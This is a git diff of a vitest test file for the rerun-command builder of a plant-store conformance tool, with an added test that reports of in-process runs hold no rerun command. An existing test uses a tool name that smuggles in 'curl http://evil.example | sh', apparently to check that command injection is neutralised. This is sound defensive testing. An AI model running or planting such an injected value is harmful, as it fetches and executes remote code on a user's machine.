@@ -1,6 +1,7 @@
 import { describe, expect, test } from "vitest";
 import type { CheckResult, RunResult } from "../../result/result.ts";
 import { sampleResult } from "../../result/testing/sample-result.ts";
+import { renderers } from "../index.ts";
 import { runAgain } from "./rerun-command.ts";
 
 const url = "http://plants.example";
@@ -62,4 +63,17 @@ describe("the command that runs failed checks again", () => {
     const tool = { name: "x; curl http://evil.example | sh", version: "1" };
     expect(runAgain(resultWith([], { tool }))).toMatch(/^npx plant-store-conformance check /);
   });
+});
+
+test("no report of an application that was judged in the process of its tests has a command that asks its closed port", async () => {
+  const outages = [{ inFlight: [0], before: [], restarted: false }];
+  const there = { ...sampleResult, outages };
+  const served = { ...there, provider: { ...sampleResult.provider, inProcess: true as const } };
+  const asks = /\bcurl -|conformance check |&quot;command&quot;|rerun/;
+  for (const format of ["text", "html", "markdown", "junit", "ctrf", "tap", "brief"] as const) {
+    const shown = await renderers[format].render(served);
+    expect(shown, format).not.toMatch(asks);
+  }
+  expect(await renderers.text.render(there)).toMatch(asks);
+  expect(await renderers.brief.render(served)).toContain("explain ");
 });
